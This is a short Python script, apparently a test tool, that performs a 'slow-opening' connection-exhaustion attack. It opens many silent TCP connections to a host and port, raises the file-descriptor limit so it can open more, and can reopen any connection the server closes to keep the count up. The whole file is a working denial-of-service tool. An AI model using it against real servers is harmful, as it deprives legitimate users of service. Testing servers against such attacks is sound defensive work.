#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-2-Clause
"""silent.py [--reopen] [--limit S] HOST:PORT N: the slow-opening attack.
Open N TCP connections that never send a byte and keep them open; print
"open N" once N have been connected (counting those the server has closed
since); with --reopen, open a new one for each that the server closes (an
attacker that keeps the count up).  Ends when
stdin closes, or after --limit seconds (default 60); prints "reopened K"."""
import argparse
import errno
import os
import resource
import select
import socket
import sys
import time


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--reopen", action="store_true")
    ap.add_argument("--limit", type=float, default=60)
    ap.add_argument("address")
    ap.add_argument("n", type=int)
    a = ap.parse_args()
    host, _, port = a.address.rpartition(":")
    target = (host.strip("[]"), int(port))
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = a.n + 64
    if soft < want:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(want, hard), hard))
    deadline = time.monotonic() + a.limit
    poller = select.epoll()
    conns = {}
    reopened = 0
    connected_total = 0

    def open_one():
        s = socket.socket(socket.AF_INET6 if ":" in target[0] else socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        err = s.connect_ex(target)
        if err not in (0, errno.EINPROGRESS):
            s.close()
            return False
        conns[s.fileno()] = [s, False]
        poller.register(s.fileno(), select.EPOLLOUT | select.EPOLLIN | select.EPOLLRDHUP)
        return True

    for _ in range(a.n):
        if not open_one():
            time.sleep(0.01)
    announced = False
    poller.register(sys.stdin.fileno(), select.EPOLLIN)
    while time.monotonic() < deadline:
        for fd, ev in poller.poll(0.1):
            if fd == sys.stdin.fileno():
                if not os.read(fd, 4096):
                    print("reopened %d" % reopened, flush=True)
                    return
                continue
            s, connected = conns[fd]
            if ev & (select.EPOLLIN | select.EPOLLRDHUP | select.EPOLLHUP | select.EPOLLERR):
                # the server closed it (or sent something): gone
                if not connected and ev & select.EPOLLOUT and not ev & select.EPOLLERR:
                    connected_total += 1
                poller.unregister(fd)
                del conns[fd]
                s.close()
                if a.reopen and open_one():
                    reopened += 1
            elif ev & select.EPOLLOUT and not connected:
                conns[fd][1] = True
                connected_total += 1
                poller.modify(fd, select.EPOLLIN | select.EPOLLRDHUP)
        if not announced and connected_total >= a.n:
            print("open %d" % a.n, flush=True)
            announced = True
    print("reopened %d" % reopened, flush=True)


main()
